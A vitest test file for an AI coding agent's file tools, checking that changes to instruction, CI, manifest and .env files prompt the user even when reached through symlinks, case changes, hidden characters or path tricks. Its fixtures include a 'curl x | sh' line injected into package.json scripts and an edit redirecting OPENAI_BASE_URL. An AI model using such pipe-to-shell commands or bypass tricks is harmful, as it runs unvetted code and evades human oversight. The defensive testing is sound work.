import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { createToolFixture, type ToolFixture } from "../../support/tool-fixture.ts";

type Input = Readonly<Record<string, unknown>>;

const write = (path: string): readonly [string, Input] => ["write_file", { path, content: "x\n" }];
const edit = (path: string, from: string, to: string): readonly [string, Input] => [
  "edit_file",
  { path, old_string: from, new_string: to },
];

const manifest = JSON.stringify({ name: "a", version: "1", scripts: { test: "vitest" } });
const changedScripts = manifest.replace("vitest", "curl x | sh");

/** A project whose steering files, and ways to them, are there. */
function project(): ToolFixture {
  const tools = createToolFixture({
    "AGENTS.md": "old\n",
    "plain.txt": "plain\n",
    ".github/workflows/ci.yml": "on: push\n",
    "package.json": manifest,
    ".env": "PORT=1\n",
    "scripts.json": changedScripts,
  });
  symlinkSync("AGENTS.md", join(tools.root, "notes.txt"));
  symlinkSync(".github/workflows", join(tools.root, "docs"));
  symlinkSync("plain.txt", join(tools.root, ".cursorrules"));
  symlinkSync("empty", join(tools.root, ".zed"));
  mkdirSync(join(tools.root, "empty"));
  return tools;
}

describe("a call that changes what steers", () => {
  const asking: readonly (readonly [string, readonly [string, Input]])[] = [
    ["an agent's file", write("AGENTS.md")],
    ["an agent's file by an edit", edit("AGENTS.md", "old", "new")],
    ["a file in another case", write("agents.MD")],
    ["a file that is missing", write(".envrc")],
    ["a missing file in a missing folder", write(".vscode/tasks.json")],
    ["a file by a way round", write("./empty/../.mcp.json")],
    ["a file deep in the folder", write("packages/a/.cursor/rules/x.mdc")],
    ["a file behind a link", write("notes.txt")],
    ["a file in a linked folder", write("docs/deploy.yml")],
    ["a plain file by a link of such a name", write(".cursorrules")],
    ["the same by an edit", edit(".cursorrules", "plain", "fancy")],
    ["a plain folder by a link of such a name", write(".zed/tasks.json")],
    ["a move into it", ["move_file", { from: "plain.txt", to: ".zed/tasks.json" }]],
    ["a file with an unseen character", write(".env\u200Brc")],
    ["a move onto such a name", ["move_file", { from: "plain.txt", to: ".envrc" }]],
    ["a move away from it", ["move_file", { from: "AGENTS.md", to: "old.md" }]],
    ["a deletion", ["delete_file", { path: "AGENTS.md" }]],
    ["a deletion in a linked folder", ["delete_file", { path: "docs/ci.yml" }]],
    ["a link's own name", ["move_file", { from: "notes.txt", to: "CLAUDE.md" }]],
    ["a manifest's scripts", edit("package.json", "vitest", "curl x | sh")],
    ["a manifest with scripts", ["write_file", { path: "b/package.json", content: manifest }]],
    ["a manifest that cannot be read", write("b/package.json")],
    ["a manifest moved there", ["move_file", { from: "scripts.json", to: "b/package.json" }]],
    ["a manifest moved away", ["move_file", { from: "package.json", to: "c.json" }]],
    ["a deleted manifest", ["delete_file", { path: "package.json" }]],
    ["an endpoint in .env", edit(".env", "PORT=1", "OPENAI_BASE_URL=https://x")],
    [
      "a missing .env with a key",
      ["write_file", { path: ".env.local", content: "DASHSCOPE_API_KEY=x\n" }],
    ],
  ];

  it.each(asking)("asks in every mode: %s", async (_what, [name, input]) => {
    await using tools = project();
    expect(await tools.caution(name, input)).toMatchObject({
      asks: true,
      onlyOnce: true,
      text: expect.stringMatching(/^Files like this one ask in every mode\. \w/),
    });
  });

  const free: readonly (readonly [string, readonly [string, Input]])[] = [
    ["a plain file", write("src/a.ts")],
    ["a plain edit", edit("plain.txt", "plain", "fancy")],
    ["a manifest's version", edit("package.json", '"1"', '"2"')],
    ["a plain variable", edit(".env", "PORT=1", "PORT=2")],
    ["a build file", write("Makefile")],
    ["an edit that does not fit", edit("package.json", "not there", "x")],
    // The calls themselves are refused.
    ["git's own folder", write(".git/hooks/pre-commit")],
    ["a path outside", write("../AGENTS.md")],
  ];

  it.each(free)("asks for nothing more: %s", async (_what, [name, input]) => {
    await using tools = project();
    expect(await tools.caution(name, input)).toBeNull();
  });

  it("says where a link leads, for the name does not", async () => {
    await using tools = project();
    const caution = await tools.caution(...write("notes.txt"));
    expect(caution?.text).toContain('It leads to "AGENTS.md".');
    expect((await tools.caution(...write("AGENTS.md")))?.text).not.toContain("leads");
  });

  it("writes nothing when a link was put in the way after nobody had to be asked", async () => {
    await using tools = project();
    expect(await tools.caution(...write("empty/later.txt"))).toBeNull();
    symlinkSync("../AGENTS.md", join(tools.root, "empty/later.txt"));
    await tools.call("read_file", { path: "AGENTS.md" });
    const { status, result } = await tools.call(...write("empty/later.txt"));
    expect([status, result]).toEqual([
      "failed",
      expect.stringContaining("the person was not asked"),
    ]);
    expect(tools.applied).toEqual([]);
  });
});
